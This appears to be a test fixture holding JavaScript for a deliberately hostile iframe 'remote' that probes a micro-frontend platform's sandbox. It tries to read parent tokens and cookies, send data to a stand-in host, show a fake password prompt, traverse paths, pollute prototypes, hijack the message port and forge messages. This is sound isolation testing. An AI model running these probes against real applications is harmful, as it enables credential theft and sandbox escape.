/**
 * The code of an isolated remote that tries to reach what is not its own. What it was refused, and what it reached, stands in its frame as JSON
 * by the name of the attempt. It runs as text in a browser.
 */
export const attackingRemote = `
const other = 'https://elsewhere.test/';
const outcomes = {};
async function attempt(name, work) {
  try {
    const found = await work();
    outcomes[name] = found === undefined ? 'nothing' : 'REACHED ' + String(found).slice(0, 80);
  } catch (error) {
    outcomes[name] = 'refused: ' + error.name;
  }
}
const never = ms => new Promise(resolve => setTimeout(resolve, ms));
const loads = (tag, attribute, address, more = {}) => () => new Promise((resolve, reject) => {
  const made = document.createElement(tag);
  Object.assign(made, more);
  made.onload = () => resolve(address);
  made.onerror = () => reject(new TypeError(address));
  made[attribute] = address;
  document.body.append(made);
});

/** The channel, taken from the hands of what the page put into the frame. */
function takePort(context) {
  const { postMessage } = MessagePort.prototype;
  let port;
  MessagePort.prototype.postMessage = function (...all) { port = this; return postMessage.apply(this, all); };
  context.title('Hostile');
  MessagePort.prototype.postMessage = postMessage;
  return port;
}

export default {
  name: 'hostile',
  contract: 2,
  async mount(root, context) {
    const out = document.createElement('pre');
    out.id = 'outcomes';
    root.append(out);
    await attempt('parent document', () => parent.document.title);
    await attempt('parent variable', () => parent.localStorage.getItem('token'));
    await attempt('top location', () => { top.location.href = other + 'top'; });
    await attempt('top location replaced', () => { top.location.replace(other + 'top'); });
    await attempt('parent history', () => { parent.history.back(); });
    await attempt('frame element', () => frameElement.ownerDocument.title);
    await attempt('local storage', () => localStorage.length);
    await attempt('session storage', () => sessionStorage.length);
    await attempt('cookies', () => document.cookie);
    await attempt('indexed db', () => new Promise((resolve, reject) => {
      const asked = indexedDB.open('rpd');
      asked.onsuccess = () => resolve('a database');
      asked.onerror = () => reject(asked.error);
    }));
    await attempt('caches', () => caches.keys());
    await attempt('service worker', () => navigator.serviceWorker.register('/sw.js'));
    await attempt('worker', () => new Promise((resolve, reject) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
      worker.onmessage = () => resolve('a worker');
      worker.onerror = () => reject(new TypeError('worker'));
    }));
    await attempt('broadcast', () => new Promise((resolve, reject) => {
      const channel = new BroadcastChannel('rpd');
      channel.onmessage = ({ data }) => resolve(JSON.stringify(data));
      channel.postMessage({ type: 'signed-out' });
      setTimeout(() => reject(new TypeError('silent')), 300);
    }));
    await attempt('api by itself', async () => (await fetch(API + '/server', { credentials: 'include' })).status);
    await attempt('registry by itself', async () => (await fetch(API + '/releases')).status);
    await attempt('fetch elsewhere', async () => (await fetch(other + 'fetch')).status);
    await attempt('beacon', () => { navigator.sendBeacon(other + 'beacon', 'x'); });
    await attempt('socket', () => new Promise((resolve, reject) => {
      const socket = new WebSocket('wss://elsewhere.test/');
      socket.onopen = () => resolve('a socket');
      socket.onerror = () => reject(new TypeError('socket'));
    }));
    await attempt('event source', () => new Promise((resolve, reject) => {
      const source = new EventSource(API + '/live');
      source.onopen = () => resolve('a stream');
      source.onerror = () => reject(new TypeError('stream'));
    }));
    await attempt('image elsewhere', loads('img', 'src', other + 'image'));
    await attempt('style elsewhere', loads('link', 'href', other + 'style', { rel: 'stylesheet' }));
    await attempt('prefetch elsewhere', () => Promise.race([loads('link', 'href', other + 'prefetch', { rel: 'prefetch' })(), never(300)]));
    await attempt('script elsewhere', loads('script', 'src', other + 'script'));
    await attempt('script of another remote', () => import('/remotes/admin/x/remoteEntry.js'));
    await attempt('script of the shell', loads('script', 'src', SHELL + '/assets/x.js'));
    await attempt('module elsewhere', () => import(other + 'module.js'));
    await attempt('inline script', () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.inline = true';
      document.body.append(script);
      return globalThis.inline;
    });
    await attempt('eval', () => (0, eval)('1 + 1'));
    await attempt('window', () => { if (window.open(other + 'window')) return 'a window'; });
    await attempt('dialog', () => prompt('Votre mot de passe ?') ?? undefined);
    await attempt('form', async () => {
      const form = document.createElement('form');
      form.action = other + 'form';
      form.method = 'post';
      document.body.append(form);
      form.submit();
      await never(300);
    });
    await attempt('download', async () => {
      const link = document.createElement('a');
      link.href = 'data:text/html,x';
      link.download = 'x.html';
      document.body.append(link);
      link.click();
      await never(100);
    });
    await attempt('frame of another remote', () => Promise.race([loads('iframe', 'src', API + '/frames/outposts/1.0.0')().then(() => undefined), never(300)]));
    await attempt('frame elsewhere', () => Promise.race([loads('iframe', 'src', other + 'frame')().then(() => undefined), never(300)]));
    await attempt('full screen', () => document.documentElement.requestFullscreen());
    await attempt('clipboard', () => navigator.clipboard.readText());
    await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));

    const asks = (name, asked) => attempt(name, async () => JSON.stringify((await context.request(asked)).body));
    await asks('granted rows', { path: 'server' });
    await asks('administration', { path: 'deployments' });
    await asks('people', { path: 'user' });
    await asks('not granted', { path: 'character' });
    await asks('writing', { path: 'server', method: 'POST', body: { name: 'x' } });
    await asks('out of its resource', { path: 'server/../deployments' });
    await asks('out by an escape', { path: 'server/%2e%2e/deployments' });
    await asks('out of the api', { path: '/../../auth/user' });
    await asks('another host', { path: 'https://elsewhere.test/api' });
    await asks('another protocol', { path: '//elsewhere.test/api' });
    await asks('foreign headers', { path: 'server', headers: { authorization: 'Bearer x', 'x-rpd-remote': 'admin' } });
    context.navigate('/app/admin/users');
    context.navigate('/app/hostile/../admin/users');
    context.navigate('/app/hostile/%2e%2e/admin/users');
    context.navigate(other + 'navigate');
    context.navigate('javascript:alert(1)');
    context.notify('info', 'Votre session a expiré.');

    const port = takePort(context);
    for (const forged of [
      null, 7, 'x', [], { type: 'constructor' }, { type: '__proto__' }, { type: 'toString' },
      { type: 'names', names: JSON.parse('{"__proto__": "x"}') }, { type: 'names', names: { constructor: 'x' } },
      { type: 'title', text: { toString: 'x' } }, { type: 'height', height: Infinity }, { type: 'height', height: -1 },
      { type: 'navigate', to: '/app/admin/users', replace: true }, { type: 'notify', kind: 'alert', text: 'x' },
      { type: 'items', items: [{ text: 'Administration', to: 'https://elsewhere.test/' }] },
      { type: 'request', id: 9001, path: 'deployments', method: 'GET', headers: {}, remote: 'admin' },
      { type: 'request', id: 9002, path: 'server', method: 'GET', headers: { 'x-rpd-remote': 'admin' } },
      { type: 'follow', id: 9003, topic: 'deployments' }, { type: 'follow', id: 9004, topic: 'users' },
      { type: 'title', text: 'x'.repeat(3_000_000) }, new Array(4e9 >>> 1), new Map([[1, 2]]), new Date(),
    ]) port.postMessage(forged);
    parent.postMessage({ type: 'rpd-start' }, '*');
    parent.postMessage({ type: 'navigate', to: '/app/admin/users' }, '*');
    await never(300);
    out.textContent = JSON.stringify(outcomes);
  },
};
`;

/** The same code for a platform: where its hosts are. */
export const attackingCode = ({ url, api }: { url: string; api: string }): string =>
  `const SHELL = ${JSON.stringify(url)};\nconst API = ${JSON.stringify(api)};\n${attackingRemote}`;
